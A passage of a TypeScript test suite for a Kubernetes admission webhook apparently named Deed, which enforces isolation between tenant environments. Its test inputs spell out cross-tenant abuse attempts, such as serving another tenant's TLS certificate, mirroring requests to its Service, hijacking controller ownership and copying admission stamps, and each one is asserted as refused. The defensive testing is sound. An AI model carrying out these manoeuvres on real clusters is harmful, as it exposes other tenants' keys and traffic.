    admitted(review(CONFIGMAPS_, RUNNER_B, { metadata: { ownerReferences: [{ apiVersion: 'tekton.dev/v1', kind: 'TaskRun', name: 'run-1', uid: 'r-uid', blockOwnerDeletion: false }] } }));
    // Added by an UPDATE, judged; kept by one, not again.
    const update = review(CONFIGMAPS_, RUNNER_B, blocking('alpha-tls', 'Secret-uid'), { operation: 'UPDATE', old: {} });
    update.request.oldObject = { ...update.request.object!, metadata: { ...update.request.object!.metadata, ownerReferences: [] } };
    refused(update, 'reference.cross-environment');
  });

  test("beta's object may not hold alpha's in deletion by a blocking owner reference of a kind Deed does not read: the collector finds the owner by uid whatever kind the reference gives", () => {
    // alpha-web's uid (CLUSTER), under a kind whose objects Deed cannot look up.
    const holdBy = (ref: Record<string, unknown>, o: Record<string, unknown> = {}) => ({ metadata: { ownerReferences: [{ name: 'anything', uid: 'Deployment-uid', blockOwnerDeletion: true, ...ref }], ...o }, data: {} });
    const pdb = holdBy({ apiVersion: 'policy/v1', kind: 'PodDisruptionBudget' }, { finalizers: ['hold.example.com/forever'] });
    const body = review(CONFIGMAPS_, RUNNER_B, pdb);
    assert.ok(!lookupsNeeded(body.request, 'admit', FIXTURE_KEYS).some((k) => k.name === 'anything'), 'nothing to read: the kind is not in the table');
    refused(body, 'reference.unknown', /metadata\.ownerReferences\[0\]: blocks the deletion of the object of uid Deployment-uid, named as PodDisruptionBudget shared\/anything \(policy\/v1\), a kind Deed does not read, .*drop blockOwnerDeletion/);
    // As the controller, with no finalizer: the collector cannot resolve the kind, so it never deletes the dependent.
    const hold = holdBy({ apiVersion: 'hold.example.com/v1', kind: 'Hold', controller: true });
    refused(review(CONFIGMAPS_, RUNNER_B, hold), 'reference.unknown', /Hold shared\/anything \(hold\.example\.com\/v1\), a kind Deed does not read/);
    refused(review(PODS, RUNNER_B, pod(hold.metadata)), 'reference.unknown', /a kind Deed does not read/);
    // Whose the uid is cannot be known, for anyone whose references are judged: alpha's own runner and a principal of no environment too.
    refused(review(CONFIGMAPS_, RUNNER_A, pdb), 'reference.unknown');
    refused(review(CONFIGMAPS_, NONE, hold), 'reference.unknown');
    // The platform's principals (and system controllers: an operator's, in systemPrincipals) write them; not blocking, it holds nothing.
    admitted(review(CONFIGMAPS_, ARGO, pdb));
    admitted(review(CONFIGMAPS_, RUNNER_B, holdBy({ apiVersion: 'hold.example.com/v1', kind: 'Hold', controller: true, blockOwnerDeletion: false })));
    // Made blocking by an UPDATE: judged as added.
    const update = review(CONFIGMAPS_, RUNNER_B, hold, { operation: 'UPDATE', old: {} });
    const [ref] = (update.request.object.metadata as { ownerReferences: object[] }).ownerReferences;
    update.request.oldObject = { ...update.request.object!, metadata: { ...update.request.object!.metadata, ownerReferences: [{ ...ref, blockOwnerDeletion: false }] } };
    refused(update, 'reference.unknown', /a kind Deed does not read/);
    // A blocking controller reference of a kind Deed reads is judged as the controller: by its own uid, of the writer's environment.
    refused(review(CONFIGMAPS_, RUNNER_B, holdBy({ apiVersion: 'apps/v1', kind: 'Deployment', name: 'alpha-web', controller: true })), 'reference.cross-environment', /the controller reference names Deployment shared\/alpha-web/);
    refused(review(CONFIGMAPS_, RUNNER_A, holdBy({ apiVersion: 'apps/v1', kind: 'Deployment', name: 'alpha-web', uid: 'other-uid', controller: true })), 'reference.unknown', /with a uid it does not have/);
    refused(review(CONFIGMAPS_, RUNNER_A, holdBy({ apiVersion: 'apps/v1', kind: 'Deployment', name: 'alpha-web', uid: 'other-uid' })), 'reference.unknown', /by a uid it does not have/);
    admitted(review(CONFIGMAPS_, RUNNER_A, holdBy({ apiVersion: 'apps/v1', kind: 'Deployment', name: 'alpha-web', controller: true })));
    admitted(review(CONFIGMAPS_, RUNNER_A, holdBy({ apiVersion: 'apps/v1', kind: 'Deployment', name: 'alpha-web' })));
  });

  test("the job controller's pods of a manualSelector Job may carry an older Job's label (ClaimPods ignores a pod another uid controls); a status write may not add the label", () => {
    const JOB_CONTROLLER: UserInfo = { username: 'system:serviceaccount:kube-system:job-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'], extra: {} };
    admitted(review(PODS, JOB_CONTROLLER, pod({ labels: { 'controller-uid': 'old-job-uid' }, ...controlledBy('Job', 'alpha-job', 'alpha-job-uid') })));
    const status = review(PODS, NONE, pod({ labels: { 'batch.kubernetes.io/controller-uid': 'alpha-job-uid' } }), { operation: 'UPDATE', old: {}, subResource: 'status' });
    status.request.oldObject = { ...status.request.object!, metadata: { ...status.request.object!.metadata, labels: {} } };
    refused(status, 'reference.unknown', /and the pod has no controller to keep it from being adopted/);
  });

  test("no controller adopts an object of no environment into an environment's owner: the job controller would count a tenant's pod as alpha's Job's", () => {
    const JOB_CONTROLLER: UserInfo = { username: 'system:serviceaccount:kube-system:job-controller', groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'], extra: {} };
    const adopt = review(PODS, JOB_CONTROLLER, pod({ uid: 'tenant-pod', labels: { 'batch.kubernetes.io/controller-uid': 'alpha-job-uid' }, ...controlledBy('Job', 'alpha-job', 'alpha-job-uid') }), { operation: 'UPDATE', old: {} });
    adopt.request.oldObject = { ...adopt.request.object!, metadata: { ...adopt.request.object!.metadata, ownerReferences: [] } };
    refused(adopt, 'guard.adoption', /Job shared\/alpha-job belongs to another environment than system:serviceaccount:kube-system:job-controller acts for/);
    // The platform may, as it may write the reference at CREATE.
    admitted({ ...adopt, request: { ...adopt.request, userInfo: ARGO } });
  });

  test("a controller reference that keeps the uid but names another kind or name is a change of controller: beta may not turn its pod's reference into alpha's Job", () => {
    // beta's pod (stamped for beta), and a tenant's of no environment, each planted with alpha's Job's uid under an operator's kind.
    for (const [who, metadata] of [[RUNNER_B, owned('Pod', 'beta').metadata], [NONE, { uid: 'tenant-pod' }]] as const) {
      const planted = { ...metadata, ...controlledBy('TaskRun', 'run-1', 'alpha-job-uid', 'tekton.dev/v1') };
      const update = review(PODS, who, pod({ ...metadata, ...controlledBy('Job', 'alpha-job', 'alpha-job-uid') }), { operation: 'UPDATE', old: {} });
      update.request.oldObject = { ...update.request.object!, metadata: { ...update.request.object!.metadata, ...planted } };
      // The read plan reads the new controller: the uid alone did not change.
      assert.ok(lookupsNeeded(update.request, 'validate', FIXTURE_KEYS).some((k) => k.resource === 'jobs' && k.name === 'alpha-job'));
      refused(update, 'guard.adoption', who === NONE ? /Job shared\/alpha-job belongs to another environment than stranger acts for/ : /is not of the environment of Job shared\/alpha-job; it may not become its controller/);
    }
  });

  test("a Job that names alpha's CronJob as its controller is refused to beta", () => {
    refused(review(JOBS, RUNNER_B, { metadata: controlledBy('CronJob', 'alpha-cron', 'alpha-cron-uid'), spec: { template: { spec: { restartPolicy: 'Never', automountServiceAccountToken: false, containers: [{ name: 'main', image: 'x' }] } } } }), 'reference.cross-environment', /CronJob shared\/alpha-cron/);
  });

  test("a Job whose controller reference carries the name of alpha's CronJob under another kind is refused: the cronjob controller counts Jobs by that name alone", () => {
    const job = (ref: Record<string, unknown>) => ({ metadata: { ownerReferences: [{ controller: true, ...ref }] }, spec: { template: { spec: { restartPolicy: 'Never', automountServiceAccountToken: false, containers: [{ name: 'main', image: 'x' }] } } } });
    const body = review(JOBS, RUNNER_B, job({ apiVersion: 'example.com/v1', kind: 'CronJob', name: 'alpha-cron', uid: 'x' }));
    assert.ok(lookupsNeeded(body.request, 'admit', FIXTURE_KEYS).some((k) => k.resource === 'cronjobs' && k.name === 'alpha-cron'), 'the namesake is in the read plan');
    refused(body, 'reference.cross-environment', /metadata\.ownerReferences\[0\]\.name: names CronJob alpha-cron, which belongs to another environment \(the cronjob controller of a CronJob of that name counts the Job as its own and deletes it once finished/);
    admitted(review(JOBS, RUNNER_A, job({ apiVersion: 'example.com/v1', kind: 'CronJob', name: 'alpha-cron', uid: 'x' })));
    admitted(review(JOBS, RUNNER_B, job({ apiVersion: 'example.com/v1', kind: 'Workflow', name: 'no-cron-by-this-name', uid: 'x' })), lookupOf({ ...CLUSTER, 'cronjobs/shared/no-cron-by-this-name': null }));
  });

  test("an operator's pod owned by its custom resource is its operator's to judge", () => {
    admitted(review(PODS, NONE, pod(controlledBy('TaskRun', 'run-1', 'r-uid', 'tekton.dev/v1'))));
  });

  test('system controllers, break-glass and the platform write references Deed does not judge', () => {
    admitted(review(HPA, ADMIN, hpa('Deployment', 'alpha-web')));
    admitted(review(INGRESS, ARGO, ingress('alpha-svc')));
  });
});

describe('dynamic resource allocation: claims and their templates', () => {
  const RCT: Gvr = { group: 'resource.k8s.io', version: 'v1', resource: 'resourceclaimtemplates', kind: 'ResourceClaimTemplate' };
  const claimPod = (claim: string) => pod({}, { resourceClaims: [{ name: 'gpu', resourceClaimName: claim }] });

  test("beta's pod that shares alpha's allocated ResourceClaim is refused; its own claim and alpha's pod of alpha's claim are admitted", () => {
    refused(review(PODS, RUNNER_B, claimPod('alpha-gpu')), 'reference.cross-environment', /spec\.resourceClaims\[0\]\.resourceClaimName: names ResourceClaim alpha-gpu, which belongs to another environment/);
    admitted(review(PODS, RUNNER_B, claimPod('beta-gpu')));
    admitted(review(PODS, RUNNER_A, claimPod('alpha-gpu')));
  });

  test("a claim a controller made for alpha's pod (from its ResourceClaimTemplate, or its ephemeral volume) is that pod's environment's: beta's pod may not share its devices or mount it", () => {
    refused(review(PODS, RUNNER_B, claimPod('alpha-bot-gpu-x7k2q')), 'reference.cross-environment', /names ResourceClaim alpha-bot-gpu-x7k2q, which belongs to another environment/);
    refused(review(PODS, NONE, claimPod('alpha-bot-gpu-x7k2q')), 'reference.cross-environment', /stranger acts for no environment and may not/);
    admitted(review(PODS, RUNNER_A, claimPod('alpha-bot-gpu-x7k2q')));
    const mounts = pod({}, { volumes: [{ name: 'scratch', persistentVolumeClaim: { claimName: 'alpha-bot-scratch' } }] });
    refused(review(PODS, RUNNER_B, mounts), 'claim.cross-environment', /volume "scratch" mounts claim alpha-bot-scratch, which belongs to another environment/);
    // Made for a pod of no environment: no one's, as any unstamped object outside a bound namespace.
    admitted(review(PODS, RUNNER_B, claimPod('stranger-bot-gpu-p9d4m')));
  });

  test('a claim made for a pod that is gone, replaced, or cannot be read is refused: whose it was cannot be told', () => {
    refused(review(PODS, RUNNER_B, claimPod('gone-bot-gpu-aaaaa')), 'reference.unknown', /it was made for pod gone-bot \(uid gone-uid\), which is gone/);
    refused(review(PODS, RUNNER_A, claimPod('old-bot-gpu-bbbbb')), 'reference.unknown', /made for pod alpha-bot \(uid an-earlier-pod-uid\), which is gone/);
    refused(review(PODS, RUNNER_B, claimPod('slow-bot-gpu-ccccc')), 'reference.unknown', /made for pod slow-bot, and whose that pod is cannot be told: timed out after 2000 ms/);
  });

  test("a pod's ResourceClaimTemplate is judged as its ResourceClaim: beta's pod may not have its claim made from alpha's template, and no pod names one that does not exist yet", () => {
    const templatePod = (template: string) => pod({}, { resourceClaims: [{ name: 'net', resourceClaimTemplateName: template }] });
    // The resourceclaim controller would copy alpha's devices, their configuration (alpha's network) and its metadata into beta's claim.
    refused(
      review(PODS, RUNNER_B, templatePod('alpha-net')),
      'reference.cross-environment',
      /spec\.resourceClaims\[0\]\.resourceClaimTemplateName: names ResourceClaimTemplate alpha-net, which belongs to another environment \(the resourceclaim controller makes the pod's claim from whatever template stands under the name: its devices, their configuration and its metadata\); environment "beta" may not/,
    );
    refused(review(PODS, NONE, templatePod('alpha-net')), 'reference.cross-environment', /stranger acts for no environment and may not/);
    // A name no template holds yet: whoever creates one under it later would configure the pod's claim.
    refused(review(PODS, RUNNER_A, templatePod('gpu')), 'reference.absent', /spec\.resourceClaims\[0\]\.resourceClaimTemplateName: names ResourceClaimTemplate gpu, which does not exist; create it first, or one another environment creates under that name later would be acted on/);
    refused(review(PODS, RUNNER_B, templatePod('slow-net')), 'reference.unknown', /cannot tell which environment ResourceClaimTemplate slow-net belongs to: timed out after 2000 ms/);
    // Its own, the platform's (unstamped, outside a bound namespace), and one not yet made in alpha's own namespace.
    admitted(review(PODS, RUNNER_A, templatePod('alpha-net')));
    admitted(review(PODS, RUNNER_B, templatePod('beta-net')));
    admitted(review(PODS, RUNNER_B, templatePod('platform-net')));
    admitted(review(PODS, NONE, templatePod('platform-net')));
    admitted(review(PODS, RUNNER_A, templatePod('gpu'), { namespace: 'sandbox-a' }));
    // The read plan reads it, as the ResourceClaim a pod names.
    const lookup = lookupOf(CLUSTER);
    answer('admit', review(PODS, RUNNER_B, templatePod('beta-net')), lookup);
    assert.ok(lookup.reads.has('resourceclaimtemplates/shared/beta-net'), [...lookup.reads].join(', '));
  });

  test('the pod a claim was made for is read after the claim, as a snapshot\'s source claim is', () => {
    const first = lookupOf(CLUSTER);
    const read: LookupKey[] = [
      { resource: 'resourceclaims', namespace: NS, name: 'alpha-bot-gpu-x7k2q' },
      { resource: 'persistentvolumeclaims', namespace: NS, name: 'alpha-bot-scratch' },
      { resource: 'resourceclaims', namespace: NS, name: 'alpha-gpu' },
    ];
    assert.deepEqual(followUpLookups(read, first), [{ resource: 'pods', namespace: NS, name: 'alpha-bot', uid: 'Pod-uid' }]);
  });

  test("a ResourceClaimTemplate that carries Deed's stamps in spec.metadata (copied from alpha's claim) is refused, from anyone", () => {
    const copied = owned('ResourceClaim', 'alpha').metadata;
    const template = { spec: { metadata: { labels: copied.labels, annotations: copied.annotations }, spec: { devices: { requests: [{ name: 'gpu', exactly: { deviceClassName: 'gpu.example.com' } }] } } } };
    refused(review(RCT, RUNNER_B, template), 'stamp.template', /spec\.metadata\.labels\["deed\.dev\/environment"\]: deed\.dev\/environment is admission-owned; its controller copies spec\.metadata onto the objects it makes/);
    refused(review(RCT, ADMIN, template), 'stamp.template');
    admitted(review(RCT, RUNNER_B, { spec: { metadata: { labels: { app: 'lab' } }, spec: template.spec.spec } }));
  });
});

describe("a claim a volume populator fills (a data source of another kind than a claim or a VolumeSnapshot) copies what Deed cannot read", () => {
  const PVCS: Gvr = { group: '', version: 'v1', resource: 'persistentvolumeclaims', kind: 'PersistentVolumeClaim' };
  const populated = (source: Record<string, unknown>, key = 'dataSourceRef') => ({ spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } }, [key]: source } });
  const cdi = { apiGroup: 'cdi.kubevirt.io', kind: 'VolumeCloneSource', name: 'grab' };

  test("beta's claim, or its pod's ephemeral volume, filled by KubeVirt CDI's VolumeCloneSource (which may copy alpha's claim) is refused, from a tenant of no environment too", () => {
    refused(review(PVCS, RUNNER_B, populated(cdi)), 'claim.unknown', /spec\.dataSourceRef: this claim is filled from VolumeCloneSource\.cdi\.kubevirt\.io\/grab, which Deed does not read \(a volume populator's source/);
    // Named in dataSource alone: the API server copies it into dataSourceRef, where the refusal names it.
    refused(review(PVCS, NONE, populated(cdi, 'dataSource')), 'claim.unknown', /spec\.dataSourceRef: this claim is filled from/);
    const ephemeral = pod({}, { volumes: [{ name: 'data', ephemeral: { volumeClaimTemplate: { spec: populated(cdi).spec } } }] });
    refused(review(PODS, RUNNER_B, ephemeral), 'claim.unknown', /spec\.volumes\[name=data\]\.ephemeral\.volumeClaimTemplate\.spec\.dataSourceRef: volume "data" is filled from VolumeCloneSource/);
    // Another namespace's claim (CrossNamespaceVolumeDataSource): not one Deed reads for this one.
    refused(review(PVCS, RUNNER_B, populated({ kind: 'PersistentVolumeClaim', name: 'ws', namespace: 'sandbox-a' })), 'claim.unknown', /this claim is filled from PersistentVolumeClaim sandbox-a\/ws/);
    // A VolumeSnapshot of another group is not the snapshot Deed reads.
    refused(review(PVCS, RUNNER_B, populated({ apiGroup: 'backup.example.com', kind: 'VolumeSnapshot', name: 'nightly' })), 'claim.unknown', /VolumeSnapshot\.backup\.example\.com\/nightly/);
  });

  test("the platform fills one anywhere, and an environment in its bound namespace", () => {
    admitted(review(PVCS, ARGO, populated(cdi)));
    admitted(review(PVCS, RUNNER_A, populated(cdi), { namespace: 'sandbox-a' }));
    refused(review(PVCS, RUNNER_A, populated(cdi)), 'claim.unknown');
  });
});

describe('a Gateway API route or Gateway names only what its writer environment may use', () => {
  test("beta's HTTPRoute whose backendRef names alpha's Service is refused at the backendRef's path; alpha's own, and beta's to its own, are admitted", () => {
    refused(review(HTTPROUTES, RUNNER_B, route({ name: 'alpha-svc' })), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[0\]: names Service alpha-svc, which belongs to another environment \(the gateway controller sends the route's traffic to the backend, on the hostnames of the Gateways it attaches to\); environment "beta" may not/);
    refused(review(HTTPROUTES, NONE, route({ name: 'alpha-svc' })), 'reference.cross-environment', /stranger acts for no environment and may not/);
    admitted(review(HTTPROUTES, RUNNER_A, route({ name: 'alpha-svc' })));
    admitted(review(HTTPROUTES, RUNNER_B, route({ name: 'beta-svc' })));
    // A Service of no environment, by a principal of no environment; the platform's writes are not judged.
    admitted(review(HTTPROUTES, NONE, route({ name: 'platform-svc' })));
    admitted(review(HTTPROUTES, ARGO, route({ name: 'alpha-svc' })));
  });

  test('an explicit core group and Service kind are judged as the defaulted reference, in every route kind', () => {
    for (const explicit of [{ group: '', kind: 'Service' }, { kind: 'Service' }, { group: '' }])
      refused(review(HTTPROUTES, RUNNER_B, route({ name: 'beta-svc' }, { name: 'alpha-svc', weight: 1, ...explicit })), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[1\]: names Service alpha-svc/);
    refused(review(GRPCROUTES, RUNNER_B, route({ group: '', kind: 'Service', name: 'alpha-svc' })), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[0\]: names Service alpha-svc/);
    refused(review(TCPROUTES, RUNNER_B, route({ name: 'alpha-svc' })), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[0\]: names Service alpha-svc/);
    admitted(review(GRPCROUTES, RUNNER_A, route({ group: '', kind: 'Service', name: 'alpha-svc' })));
  });

  test("a RequestMirror filter, of a rule or of one backend, may not copy beta's requests to alpha's Service", () => {
    refused(review(HTTPROUTES, RUNNER_B, mirrored('beta-svc', { name: 'alpha-svc' })), 'reference.cross-environment', /spec\.rules\[0\]\.filters\[0\]\.requestMirror\.backendRef: names Service alpha-svc, which belongs to another environment \(the gateway controller mirrors the route's requests to the backend\)/);
    const perBackend = { spec: { rules: [{ backendRefs: [{ name: 'beta-svc', port: 80, filters: [{ type: 'RequestMirror', requestMirror: { backendRef: { name: 'alpha-svc', port: 80 } } }] }] }] } };
    refused(review(HTTPROUTES, RUNNER_B, perBackend), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[0\]\.filters\[0\]\.requestMirror\.backendRef: names Service alpha-svc/);
    refused(review(GRPCROUTES, RUNNER_B, mirrored('beta-svc', { name: 'alpha-svc' })), 'reference.cross-environment', /requestMirror\.backendRef: names Service alpha-svc/);
    admitted(review(HTTPROUTES, RUNNER_A, mirrored('alpha-svc', { name: 'alpha-svc' })));
  });

  test("an HTTPRoute's ExternalAuth filter may not send beta's requests to alpha's Service; alpha's may", () => {
    const authed = (at: 'rule' | 'backend', service: string) => {
      const filters = [{ type: 'ExternalAuth', externalAuth: { protocol: 'HTTP', backendRef: { name: service, port: 8080 } } }];
      return { spec: { rules: [at === 'rule' ? { filters, backendRefs: [{ name: 'beta-svc', port: 80 }] } : { backendRefs: [{ name: 'beta-svc', port: 80, filters }] }] } };
    };
    refused(review(HTTPROUTES, RUNNER_B, authed('rule', 'alpha-svc')), 'reference.cross-environment', /spec\.rules\[0\]\.filters\[0\]\.externalAuth\.backendRef: names Service alpha-svc, which belongs to another environment \(the gateway controller sends the route's requests to the backend to authorize them\)/);
    refused(review(HTTPROUTES, RUNNER_B, authed('backend', 'alpha-svc')), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[0\]\.filters\[0\]\.externalAuth\.backendRef: names Service alpha-svc/);
    admitted(review(HTTPROUTES, RUNNER_B, authed('rule', 'beta-svc')));
  });

  test("beta's Gateway that would serve alpha's TLS certificate and key is refused; alpha's is admitted", () => {
    refused(review(GATEWAYS, RUNNER_B, gateway({ name: 'alpha-tls' })), 'reference.cross-environment', /spec\.listeners\[0\]\.tls\.certificateRefs\[0\]: names Secret alpha-tls, which belongs to another environment \(the gateway controller serves the Secret's certificate and key on the listener\)/);
    refused(review(GATEWAYS, RUNNER_B, gateway({ name: 'beta-tls' }, { group: '', kind: 'Secret', name: 'alpha-tls' })), 'reference.cross-environment', /certificateRefs\[1\]: names Secret alpha-tls/);
    admitted(review(GATEWAYS, RUNNER_A, gateway({ group: '', kind: 'Secret', name: 'alpha-tls' })));
    admitted(review(GATEWAYS, RUNNER_B, gateway({ name: 'beta-tls' })));
    // Nor present alpha's key to backends as its client certificate.
    refused(review(GATEWAYS, RUNNER_B, { spec: { ...gateway({ name: 'beta-tls' }).spec, tls: { backend: { clientCertificateRef: { name: 'alpha-tls' } } } } }), 'reference.cross-environment', /spec\.tls\.backend\.clientCertificateRef: names Secret alpha-tls, which belongs to another environment \(the gateway controller presents the Secret's certificate and key to backends as its own\)/);
  });

  test("beta's Gateway may not have its proxy built from alpha's infrastructure parameters (Istio's ConfigMap of Deployment overlays); alpha's may, and a kind Deed does not read is the platform's to name (reviewer-98 F2)", () => {
    const withParameters = (parametersRef: Record<string, string>) => ({ spec: { ...gateway({ name: 'beta-tls' }).spec, infrastructure: { parametersRef } } });
    refused(review(GATEWAYS, RUNNER_B, withParameters({ group: '', kind: 'ConfigMap', name: 'alpha-settings' })), 'reference.cross-environment', /spec\.infrastructure\.parametersRef: names ConfigMap alpha-settings, which belongs to another environment \(the gateway controller builds the Gateway's proxy Deployment and Service from the parameters/);
    admitted(review(GATEWAYS, RUNNER_A, { spec: { ...gateway({ name: 'alpha-tls' }).spec, infrastructure: { parametersRef: { group: '', kind: 'ConfigMap', name: 'alpha-settings' } } } }));
    refused(review(GATEWAYS, RUNNER_B, withParameters({ group: 'gateway.envoyproxy.io', kind: 'EnvoyProxy', name: 'custom' })), 'reference.unknown', /spec\.infrastructure\.parametersRef: names EnvoyProxy custom \(gateway\.envoyproxy\.io\), a kind Deed does not read/);
  });

  test("beta's BackendTLSPolicy may not set how every gateway connects to alpha's Service; alpha's may", () => {
    const policy = (service: string) => ({ spec: { targetRefs: [{ group: '', kind: 'Service', name: service }], validation: { hostname: 'lab.example.com', wellKnownCACertificates: 'System' } } });
    refused(review(BACKEND_TLS, RUNNER_B, policy('alpha-svc')), 'reference.cross-environment', /spec\.targetRefs\[0\]: names Service alpha-svc, which belongs to another environment/);
    admitted(review(BACKEND_TLS, RUNNER_A, policy('alpha-svc')));
    admitted(review(BACKEND_TLS, RUNNER_B, policy('beta-svc')));
    // Nor verify its own Service's certificate by alpha's CA certificates, nor a Gateway admit clients by them (reviewer-99 F5).
    const trusting = { spec: { targetRefs: [{ group: '', kind: 'Service', name: 'beta-svc' }], validation: { hostname: 'lab.example.com', caCertificateRefs: [{ group: '', kind: 'ConfigMap', name: 'alpha-settings' }] } } };
    refused(review(BACKEND_TLS, RUNNER_B, trusting), 'reference.cross-environment', /spec\.validation\.caCertificateRefs\[0\]: names ConfigMap alpha-settings, which belongs to another environment \(the gateway controller trusts the ConfigMap's CA certificates to verify the Service's certificate\)/);
    const mtls = { spec: { ...gateway({ name: 'beta-tls' }).spec, tls: { frontend: { default: { validation: { caCertificateRefs: [{ group: '', kind: 'ConfigMap', name: 'alpha-settings' }] } } } } } };
    refused(review(GATEWAYS, RUNNER_B, mtls), 'reference.cross-environment', /spec\.tls\.frontend\.default\.validation\.caCertificateRefs\[0\]: names ConfigMap alpha-settings, which belongs to another environment \(the gateway controller admits clients whose certificates the ConfigMap's CA certificates sign\)/);
  });

  test("a backend of a kind Deed does not read comes only from the platform's principals, as a scale target's does", () => {
    const imported = route({ group: 'multicluster.x-k8s.io', kind: 'ServiceImport', name: 'alpha-svc' });
    refused(review(HTTPROUTES, RUNNER_B, imported), 'reference.unknown', /names ServiceImport alpha-svc \(multicluster\.x-k8s\.io\), a kind Deed does not read/);
    // A group the API does not call the core group is not one.
    refused(review(HTTPROUTES, RUNNER_B, route({ group: 'core', kind: 'Service', name: 'beta-svc' })), 'reference.unknown', /names Service beta-svc \(core\), a kind Deed does not read/);
    admitted(review(HTTPROUTES, ARGO, imported));
  });

  test('a backend that does not exist is refused, and one Deed cannot read now is refused (fail closed)', () => {
    refused(review(HTTPROUTES, RUNNER_B, route({ name: 'gone-svc' })), 'reference.unknown', /cannot tell which environment Service gone-svc belongs to: not in the test table/);
    const absent = answer('admit', review(HTTPROUTES, RUNNER_B, route({ name: 'gone-svc' })), lookupOf({ ...CLUSTER, 'services/shared/gone-svc': null }));
    assert.equal(absent.allowed, false);
    assert.match(absent.status?.message ?? '', /\[reference\.absent\] spec\.rules\[0\]\.backendRefs\[0\]: names Service gone-svc, which does not exist/);
    refused(review(HTTPROUTES, RUNNER_B, route({ name: 'slow-svc' })), 'reference.unknown', /timed out after 2000 ms/);
  });

  test('a reference to another namespace is judged there, by what the object is there; outside the review scope it is the platform\'s', () => {
    const into = (name: string, namespace: string) => route({ name, namespace });
    refused(review(HTTPROUTES, RUNNER_B, into('alpha-api', 'sandbox-a')), 'reference.cross-environment', /spec\.rules\[0\]\.backendRefs\[0\]: names Service sandbox-a\/alpha-api, which belongs to another environment/);
    // Unstamped in alpha's bound namespace: alpha's by the binding.
    refused(review(HTTPROUTES, RUNNER_B, into('alpha-plain', 'sandbox-a')), 'reference.cross-environment', /names Service sandbox-a\/alpha-plain, which belongs to another environment/);
    refused(review(GATEWAYS, RUNNER_B, gateway({ name: 'beta-tls', namespace: NS }, { name: 'alpha-cert', kind: 'Secret', namespace: 'sandbox-a' })), 'reference.cross-environment', /certificateRefs\[1\]: names Secret sandbox-a\/alpha-cert, which belongs to another environment/);
    admitted(review(GATEWAYS, RUNNER_A, gateway({ name: 'alpha-cert', namespace: 'sandbox-a' })));
    admitted(review(HTTPROUTES, RUNNER_A, into('alpha-api', 'sandbox-a')));
    admitted(review(HTTPROUTES, RUNNER_A, into('alpha-plain', 'sandbox-a')));
    // The object's own namespace, named, is the same reference as none.
    refused(review(HTTPROUTES, RUNNER_B, into('alpha-svc', NS)), 'reference.cross-environment', /backendRefs\[0\]: names Service alpha-svc, which belongs/);
    const body = review(HTTPROUTES, RUNNER_B, into('alpha-api', 'sandbox-a'));
    assert.ok(lookupsNeeded(body.request, 'admit', FIXTURE_KEYS).some((k) => k.resource === 'services' && k.namespace === 'sandbox-a' && k.name === 'alpha-api'), 'read in the namespace it names');
    // Outside the review scope Deed reads nothing and no environment's object is stamped; a namespace whose place is not known yet is refused.
    const scope: ReviewScope = { of: (ns) => (ns === 'platform-infra' ? { state: 'out', why: 'not labelled' } : ns === 'limbo' ? { state: 'unknown', reason: 'the opted-in namespaces have not been listed yet' } : { state: 'in' }) };
    const inScope = (b: Review) => decide('admit', b, { ...testContext(POLICY, NOW, undefined, lookupOf(CLUSTER)), scope });
    const out = inScope(review(HTTPROUTES, RUNNER_B, into('oauth-proxy', 'platform-infra')));
    assert.ok(out.kind === 'review' && out.response.response.allowed, JSON.stringify(out));
    const limbo = inScope(review(HTTPROUTES, RUNNER_B, into('oauth-proxy', 'limbo')));
    assert.ok(limbo.kind === 'review' && !limbo.response.response.allowed);
    assert.match(limbo.response.response.status?.message ?? '', /\[reference\.unknown\] spec\.rules\[0\]\.backendRefs\[0\]: cannot tell which environment Service limbo\/oauth-proxy belongs to: whether namespace limbo is in the review scope is not known/);
  });

  test("an UPDATE that points beta's route at alpha's Service is refused; one that keeps its backends reads nothing", () => {
    refused(review(HTTPROUTES, RUNNER_B, route({ name: 'alpha-svc' }), { operation: 'UPDATE', old: route({ name: 'beta-svc' }) }), 'reference.cross-environment');
    // The same Service in another namespace is another reference.
    refused(review(HTTPROUTES, RUNNER_B, route({ name: 'alpha-api', namespace: 'sandbox-a' }), { operation: 'UPDATE', old: route({ name: 'alpha-api' }) }), 'reference.cross-environment', /Service sandbox-a\/alpha-api/);
    const lookup = lookupOf({});
    const body = review(HTTPROUTES, RUNNER_B, { spec: { ...route({ name: 'beta-svc' }).spec, hostnames: ['beta2.example.com'] } }, { operation: 'UPDATE', old: route({ name: 'beta-svc' }) });
    body.request.oldObject.metadata = { ...body.request.oldObject.metadata, ...owned('HTTPRoute', 'beta').metadata };
    body.request.object.metadata = body.request.oldObject.metadata;
    assert.equal(answer('validate', body, lookup).allowed, true);
    assert.deepEqual([...lookup.reads].filter((k) => k.startsWith('services/')), []);
  });

  test("beta's route may not attach to alpha's Gateway (and take over its hostnames); the platform's Gateway and alpha's own are attachable", () => {
    refused(review(HTTPROUTES, RUNNER_B, attached({ name: 'alpha-gw' })), 'reference.cross-environment', /spec\.parentRefs\[0\]: names Gateway alpha-gw, which belongs to another environment \(the gateway controller serves the route on the parent Gateway's listeners/);
    refused(review(HTTPROUTES, NONE, attached({ name: 'alpha-gw' })), 'reference.cross-environment', /stranger acts for no environment and may not/);
    // Explicit group and kind, a listener named, in every route kind.
    refused(review(HTTPROUTES, RUNNER_B, attached({ name: 'shared-gw' }, { group: 'gateway.networking.k8s.io', kind: 'Gateway', name: 'alpha-gw', sectionName: 'https' })), 'reference.cross-environment', /spec\.parentRefs\[1\]: names Gateway alpha-gw/);
    for (const g of [GRPCROUTES, TCPROUTES, TLSROUTES, UDPROUTES]) refused(review(g, RUNNER_B, attached({ name: 'alpha-gw', port: 443 })), 'reference.cross-environment', /spec\.parentRefs\[0\]: names Gateway alpha-gw/);
    admitted(review(HTTPROUTES, RUNNER_A, attached({ name: 'alpha-gw' })));
    admitted(review(HTTPROUTES, RUNNER_B, attached({ name: 'beta-gw' }, { name: 'shared-gw', sectionName: 'http' })));
    admitted(review(HTTPROUTES, NONE, attached({ name: 'shared-gw' })));
